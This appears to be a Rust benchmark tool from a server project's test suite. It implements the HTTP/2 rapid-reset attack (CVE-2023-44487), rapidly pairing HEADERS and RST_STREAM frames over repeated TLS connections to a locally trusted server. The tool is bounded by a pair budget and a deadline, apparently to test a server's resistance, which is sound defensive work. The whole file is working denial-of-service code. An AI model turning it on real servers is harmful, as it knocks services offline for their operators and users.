//! An HTTP/2 rapid-reset attacker (CVE-2023-44487) for `bench/rapid-reset.sh`: opens a stream and
//! resets it at once, as fast as it can, reconnecting whenever the server cuts the connection,
//! until it has sent `--pairs` HEADERS+RST_STREAM pairs or `--seconds` have passed.
//!
//! `rapidreset --connect 127.0.0.1:PORT --cert-der cert.der --path /slow` prints the pairs sent,
//! the connections it took and how each connection ended.

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::path::PathBuf;
use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::Context;
use clap::Parser;
use rustls::pki_types::ServerName;
use tokio::net::TcpStream;

#[derive(Parser)]
struct Args {
    /// The server to attack.
    #[arg(long)]
    connect: SocketAddr,
    /// Its certificate (DER), the only one trusted.
    #[arg(long)]
    cert_der: PathBuf,
    /// The path each stream asks for (one whose answer is slow makes the attack costliest).
    #[arg(long, default_value = "/slow")]
    path: String,
    /// Stop after this many HEADERS+RST_STREAM pairs in all.
    #[arg(long, default_value_t = 100_000)]
    pairs: u64,
    /// Stop after this long at the latest (seconds).
    #[arg(long, default_value_t = 30)]
    seconds: u64,
    /// Attacking connections open at once.
    #[arg(long, default_value_t = 2)]
    tasks: usize,
}

#[derive(Default)]
struct Tally {
    pairs: u64,
    connections: u64,
    ended: BTreeMap<String, u64>,
}

#[tokio::main]
async fn main() -> anyhow::Result<()> {
    let a = Args::parse();
    let der = std::fs::read(&a.cert_der).with_context(|| format!("reading {:?}", a.cert_der))?;
    let tls = pushwise_bench::loader::tls_trusting(&der);
    let deadline = Instant::now() + Duration::from_secs(a.seconds);
    let budget = Arc::new(std::sync::atomic::AtomicU64::new(a.pairs));
    let tally = Arc::new(std::sync::Mutex::new(Tally::default()));
    let started = Instant::now();
    let mut tasks = Vec::new();
    for _ in 0..a.tasks.max(1) {
        let (tls, budget, tally, path) = (
            Arc::clone(&tls),
            Arc::clone(&budget),
            Arc::clone(&tally),
            a.path.clone(),
        );
        let connect = a.connect;
        tasks.push(tokio::spawn(async move {
            while Instant::now() < deadline && budget.load(std::sync::atomic::Ordering::Relaxed) > 0
            {
                let (sent, how) = attack_once(connect, &tls, &path, &budget, deadline).await;
                let mut t = tally.lock().unwrap_or_else(|p| p.into_inner());
                t.pairs += sent;
                t.connections += 1;
                *t.ended.entry(how).or_default() += 1;
            }
        }));
    }
    for t in tasks {
        t.await?;
    }
    let t = tally.lock().unwrap_or_else(|p| p.into_inner());
    println!(
        "rapid reset: {} pairs over {} connections in {:.1} s",
        t.pairs,
        t.connections,
        started.elapsed().as_secs_f64()
    );
    for (how, n) in &t.ended {
        println!("  {n} connections ended: {how}");
    }
    Ok(())
}

/// One connection's attack; returns the pairs sent and how it ended.
async fn attack_once(
    connect: SocketAddr,
    tls: &Arc<rustls::ClientConfig>,
    path: &str,
    budget: &std::sync::atomic::AtomicU64,
    deadline: Instant,
) -> (u64, String) {
    use std::sync::atomic::Ordering;
    let setup = async {
        let tcp = TcpStream::connect(connect).await?;
        tcp.set_nodelay(true)?;
        let name = ServerName::try_from("localhost")?;
        let s = tokio_rustls::TlsConnector::from(Arc::clone(tls))
            .connect(name, tcp)
            .await?;
        let (send, conn) = h2::client::handshake(s).await?;
        anyhow::Ok((send, conn))
    };
    let (mut send, conn) = match setup.await {
        Ok(x) => x,
        Err(e) => return (0, format!("connect failed: {e}")),
    };
    let driver = tokio::spawn(conn);
    let mut sent = 0;
    let how = loop {
        if Instant::now() >= deadline {
            break "deadline".to_string();
        }
        if budget
            .fetch_update(Ordering::Relaxed, Ordering::Relaxed, |b| b.checked_sub(1))
            .is_err()
        {
            break "budget spent".to_string();
        }
        send = match send.ready().await {
            Ok(s) => s,
            Err(e) => break reason(&e),
        };
        let req = http::Request::get(format!("https://localhost{path}"))
            .body(())
            .expect("static request");
        match send.send_request(req, false) {
            Ok((_resp, mut body)) => body.send_reset(h2::Reason::CANCEL),
            Err(e) => break reason(&e),
        }
        sent += 1;
        // Let the connection task write what is queued (the attack is the frames, not the
        // buffer).
        if sent % 64 == 0 {
            tokio::task::yield_now().await;
        }
    };
    driver.abort();
    (sent, how)
}

fn reason(e: &h2::Error) -> String {
    match e.reason() {
        Some(r) => format!("{r:?}"),
        None if e.is_io() => "connection closed".to_string(),
        None => e.to_string(),
    }
}
